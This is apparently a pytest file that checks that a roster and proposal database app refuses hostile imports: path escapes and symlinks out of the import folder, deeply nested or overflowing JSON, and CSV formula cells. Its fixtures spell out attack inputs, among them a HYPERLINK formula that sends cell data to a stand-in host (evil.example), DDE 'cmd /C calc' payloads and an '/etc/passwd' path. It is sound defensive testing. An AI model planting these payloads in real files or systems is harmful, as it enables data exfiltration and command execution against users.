"""Hostile import files: path escapes, formula cells, deep nesting and huge numbers.

Each refused import exits 2 with one line on stderr and leaves the database unchanged.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import sqlite3
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from main import main
from models.demo import load_demo
from models.roster import io as roster_io
from models.roster.artist import ArtistDraft
from models.roster.service import RosterService
from models.storage.database import Database

SCRIPT = "INT. STUDIO - DAY\n\nMEI\nHello.\n"


@pytest.fixture
def desk(db_path: Path) -> Path:
    db = Database.open(str(db_path), actor="tester")
    try:
        load_demo(db)
    finally:
        db.close()
    return db_path


# Derived look-up tables that a read may bring up to date (leak-day name keys): not records.
DERIVED = ("leak_name_key", "leak_key_state")


def _digest(path: Path) -> str:
    """Every record in the database (the derived name-key index left out)."""
    con = sqlite3.connect(path)
    try:
        lines = [
            line
            for line in con.iterdump()
            if not any(f'"{t}"' in line or f" {t} " in line for t in DERIVED)
        ]
    finally:
        con.close()
    return hashlib.sha256("\n".join(lines).encode("utf-8")).hexdigest()


def _refused(capsys, desk: Path, *args: str) -> str:
    before = _digest(desk)
    capsys.readouterr()
    code = main(["--db", str(desk), *args])
    _out, err = capsys.readouterr()
    assert code == 2, err
    assert err.count("\n") == 1 and "something went wrong" not in err
    assert _digest(desk) == before, "a refused import must change nothing"
    return err


def _proposal(folder: Path, **extra: object) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    data = {
        "counterparty": "Blue Harbour Films",
        "project": "Night Ferry",
        "received_on": "2026-05-01",
        "artists": [1],
        **extra,
    }
    path = folder / "proposal.json"
    path.write_text(json.dumps(data), "utf-8")
    return path


@pytest.mark.parametrize(
    "escape",
    [
        "/etc/passwd",
        "../outside.fountain",
        "sub/../../outside.fountain",
        "..\\outside.fountain",
        "~/outside.fountain",
    ],
)
@pytest.mark.parametrize("key", ["scripts", "files"])
def test_proposal_paths_may_not_leave_the_json_folder(desk, capsys, tmp_path, escape, key):
    (tmp_path / "outside.fountain").write_text(SCRIPT, "utf-8")
    path = _proposal(tmp_path / "inbox", **{key: [escape]})
    err = _refused(capsys, desk, "proposal", "import", str(path))
    assert "absolute" in err or "leaves" in err or "outside" in err


@pytest.mark.parametrize("key", ["scripts", "files"])
def test_a_symlink_out_of_the_json_folder_is_refused(desk, capsys, tmp_path, key):
    secret = tmp_path / "secret.fountain"
    secret.write_text(SCRIPT, "utf-8")
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    os.symlink(secret, inbox / "script.fountain")
    path = _proposal(inbox, **{key: ["script.fountain"]})
    assert "outside" in _refused(capsys, desk, "proposal", "import", str(path))


def test_a_relative_path_inside_the_folder_is_still_accepted(desk, capsys, tmp_path):
    inbox = tmp_path / "inbox"
    (inbox / "docs").mkdir(parents=True)
    (inbox / "docs" / "brief.txt").write_text("brief", "utf-8")
    path = _proposal(inbox, files=["docs/brief.txt"])
    capsys.readouterr()
    assert main(["--db", str(desk), "proposal", "import", str(path)]) == 0


@pytest.mark.parametrize(
    "body",
    [
        "[" * 100_000 + "]" * 100_000,
        '{"counterparty": ' + "[" * 50_000 + "]" * 50_000 + "}",
        '{"counterparty": 1' + "0" * 400 + ', "project": 1, "received_on": "2026-05-01", '
        '"artists": [1' + "0" * 400 + "]}",
        '{"counterparty": 1' + "0" * 5000 + "}",
        '{"counterparty": 1e400, "project": -1e400, "received_on": 1e400, "artists": [1e400]}',
    ],
    ids=["deep-list", "deep-value", "10^400", "5000-digit", "float-overflow"],
)
def test_hostile_proposal_json_is_one_line_exit_2(desk, capsys, tmp_path, body):
    path = tmp_path / "proposal.json"
    path.write_text(body, "utf-8")
    _refused(capsys, desk, "proposal", "import", str(path))


@pytest.mark.parametrize(
    "body",
    [
        "[" * 100_000 + "]" * 100_000,
        '{"artist_id": 1' + "0" * 400 + ', "counterparty_id": 1}',
        '{"artist_id": 1' + "0" * 5000 + "}",
        '{"artist_id": 1, "counterparty_id": 1, "compensation_amount": 1e400}',
    ],
    ids=["deep", "10^400", "5000-digit", "inf-amount"],
)
def test_hostile_consent_json_is_one_line_exit_2(desk, capsys, tmp_path, body):
    path = tmp_path / "consent.json"
    path.write_text(body, "utf-8")
    _refused(capsys, desk, "consent", "add", "--from-json", str(path))


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "''@two quotes",
]
# Tab and CR starts cannot be in roster fields (control characters are refused on entry);
# the property test below covers them.


def test_csv_export_neutralises_formula_cells_and_round_trips(desk, tmp_path):
    db = Database.open(str(desk), actor="tester")
    try:
        roster = RosterService(db)
        artists = [roster.add(ArtistDraft(f"Formula {i}", notes=f)) for i, f in enumerate(FORMULAS)]
        out = tmp_path / "roster.csv"
        roster_io.export(artists, out)
    finally:
        db.close()
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    notes = [r[rows[0].index("notes")] for r in rows[1:]]
    for cell in notes:
        assert not cell.startswith(roster_io.FORMULA_STARTS), cell
    drafts = roster_io.checked_drafts(out)
    assert [d.notes for d in drafts] == [a.notes for a in artists]


@settings(deadline=None)
@given(st.text(max_size=30))
def test_neutralise_and_restore_are_inverse(value):
    cell = roster_io.neutralise_cell(value)
    assert not cell.startswith(roster_io.FORMULA_STARTS)
    assert roster_io.restore_cell(cell) == value


def test_the_leak_day_summary_csv_neutralises_formula_cells_too():
    from reports.leak_statements import SummaryRow, summary_csv

    rows = [
        SummaryRow(1, "=HYPERLINK(1)", ("+cmd",), "S1", "@a.pdf", "0" * 64, "failed", "\tx"),
        SummaryRow(2, "-2+3", (), "S2", "\r=1", "0" * 64, "issued"),
    ]
    text = summary_csv(rows).decode("utf-8-sig")
    cells = [c for r in csv.reader(text.splitlines()) for c in r]
    assert not any(c.startswith(roster_io.FORMULA_STARTS) for c in cells if c)


_SEGMENTS = st.sampled_from(["a", "b.txt", "..", ".", "", "~", "C:", "\\\\", "sub", "..."])


@settings(deadline=None)
@given(st.lists(_SEGMENTS, min_size=1, max_size=6), st.sampled_from(["/", "\\\\"]))
def test_a_proposal_path_is_refused_or_stays_inside_its_folder(tmp_path_factory, parts, sep):
    from models.proposals.importer import inside_folder

    base = tmp_path_factory.getbasetemp() / "inbox"
    base.mkdir(exist_ok=True)
    item = sep.join(parts)
    result = inside_folder(base, item)
    if isinstance(result, Path):
        assert result.is_relative_to(base.resolve())
        assert ".." not in item.replace("\\\\", "/").split("/")
